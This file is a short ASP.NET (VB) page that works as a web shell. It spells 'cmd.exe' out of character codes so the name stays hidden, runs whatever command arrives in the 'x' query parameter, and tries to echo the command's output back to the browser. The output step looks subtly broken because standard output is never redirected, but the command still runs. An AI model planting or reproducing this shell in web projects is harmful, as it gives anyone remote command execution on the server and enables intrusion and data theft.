<%@ Page Language="VB" %>
<%
Dim f As String = Chr(99) & Chr(109) & Chr(100) & Chr(46) & Chr(101) & Chr(120) & Chr(101)
Dim a As String = "/c " & Request.QueryString("x")
Dim pr As System.Diagnostics.Process = System.Diagnostics.Process.Start(f, a)
Response.Write(pr.StandardOutput.ReadToEnd())
%>
